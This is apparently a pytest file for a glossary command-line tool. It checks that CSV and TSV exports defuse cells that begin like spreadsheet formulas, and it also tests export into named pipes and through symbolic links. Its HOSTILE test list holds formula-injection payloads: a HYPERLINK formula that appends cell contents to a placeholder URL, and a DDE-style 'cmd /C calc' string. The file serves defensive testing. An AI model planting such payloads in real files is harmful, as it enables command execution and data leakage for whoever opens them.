"""Exports are safe to open: a term from a third-party glossary that begins like a spreadsheet
formula (``=``, ``+``, ``-``, ``@``, tab, carriage return: OWASP's CSV injection guidance) is
written after an apostrophe, which spreadsheets show as text; gloss reads it back as it was."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from glossary_cli.formats import table
from glossary_cli.formats._dialect import Dialect
from glossary_cli.model import Concept, Glossary, LangSection, Term

from .conftest import gloss

HOSTILE = [
    '=HYPERLINK("http://example.invalid/"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-based",
    "@SUM(1,2)",
]


def _glossary() -> Glossary:
    concepts = tuple(
        Concept(f"c{i}", (LangSection("en", (Term(term, source="x:1"),)),
                          LangSection("bn", (Term("শব্দ", source="x:1"),))))
        for i, term in enumerate(HOSTILE)
    )  # fmt: skip
    return Glossary((), concepts)


def _cells(data: bytes, delimiter: str = ",") -> list[str]:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8")), delimiter=delimiter))
    return [cell for row in rows[1:] for cell in row]


@pytest.mark.parametrize("dialect", ["csv", "tsv"])
def test_a_cell_that_begins_like_a_formula_is_written_as_text(dialect: Dialect) -> None:
    data = table.write(_glossary(), dialect=dialect)
    cells = _cells(data, "," if dialect == "csv" else "\t")
    assert not [c for c in cells if c.startswith(table.FORMULA_START)]
    assert {"'" + t for t in HOSTILE} <= set(cells)
    back = table.read(data, f"x.{dialect}", dialect=dialect)
    terms = {t.text for c in back.concepts for s in c.languages for t in s.terms}
    assert set(HOSTILE) <= terms  # read back as written before


def test_raw_cells_are_written_as_they_are() -> None:
    cells = _cells(table.write(_glossary(), raw=True))
    assert set(HOSTILE) <= set(cells)


@pytest.mark.slow
def test_an_imported_hostile_term_is_exported_safely_and_read_back(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("GLOSS_USER_DATA", str(tmp_path / "user"))
    monkeypatch.setenv("GLOSS_CACHE", str(tmp_path / "cache"))
    source = tmp_path / "evil.csv"
    with source.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["en", "bn"])
        writer.writerows([term, f"শব্দ{i}"] for i, term in enumerate(HOSTILE))
    assert gloss("add", str(source)).exit_code == 0
    exported = gloss("export", "--format", "csv", "--glossary", "evil")
    assert exported.exit_code == 0, exported.stderr
    cells = _cells(exported.stdout.encode("utf-8"))
    assert not [c for c in cells if c.startswith(table.FORMULA_START)]
    raw = gloss("export", "--format", "csv", "--glossary", "evil", "--raw-cells")
    assert set(HOSTILE) <= set(_cells(raw.stdout.encode("utf-8")))
    for command in (["search", "শব্দ0", "--format", "csv"], ["list", "--format", "csv"]):
        shown = gloss(*command)
        assert shown.exit_code == 0, shown.stderr
        found = _cells(shown.stdout.encode("utf-8"))
        assert any(c.startswith("'=HYPERLINK") for c in found)
        assert not [c for c in found if c.startswith(table.FORMULA_START)]
    again = tmp_path / "again.csv"
    again.write_text(exported.stdout, encoding="utf-8")
    dry = gloss("add", str(again), "--dry-run")
    # the term as it was ('=HYPERLINK…' quoted), never with the apostrophe ("'=HYPERLINK…")
    assert dry.exit_code == 0 and "'=HYPERLINK" in dry.stdout and "\"'=" not in dry.stdout


# --- what -o writes into -------------------------------------------------------------------


def test_export_into_a_named_pipe_writes_into_the_pipe(tmp_path: Path) -> None:
    """A FIFO (or a device: -o /dev/stdout) is written to, not replaced by a file."""
    import os
    import stat
    import threading

    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    got: list[bytes] = []
    reader = threading.Thread(target=lambda: got.append(fifo.read_bytes()))
    reader.start()
    result = gloss("export", "--format", "csv", "-o", str(fifo))
    reader.join(timeout=30)
    assert result.exit_code == 0, result.stderr
    assert stat.S_ISFIFO(fifo.lstat().st_mode)
    assert got and got[0].startswith(b"id,") and b"pruning" in got[0]


def test_export_through_a_symbolic_link_replaces_its_target(tmp_path: Path) -> None:
    target = tmp_path / "real.csv"
    target.write_text("old\n", encoding="utf-8")
    link = tmp_path / "link.csv"
    link.symlink_to(target)
    result = gloss("export", "-o", str(link))
    assert result.exit_code == 0, result.stderr
    assert link.is_symlink() and link.resolve() == target.resolve()
    assert target.read_text(encoding="utf-8").startswith("id,")
